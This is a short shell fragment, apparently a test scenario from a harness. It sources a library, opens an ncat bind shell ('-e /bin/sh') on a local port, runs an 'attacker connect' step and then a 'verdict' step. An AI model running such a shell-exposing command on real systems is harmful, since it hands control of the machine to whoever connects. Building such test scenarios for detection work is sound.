. "$CORPUS/lib/common.sh"
ncat -l 127.0.0.1 31038 -e /bin/sh &
attacker connect 31038
verdict
